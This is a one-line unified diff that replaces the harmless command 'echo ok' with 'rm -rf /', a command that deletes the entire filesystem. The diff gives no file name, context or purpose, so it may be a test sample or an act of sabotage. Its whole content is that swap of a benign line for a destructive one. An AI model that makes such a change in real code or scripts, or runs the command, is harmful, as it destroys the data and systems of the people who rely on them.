@@ -1,1 +1,1 @@
-echo ok
+rm -rf /
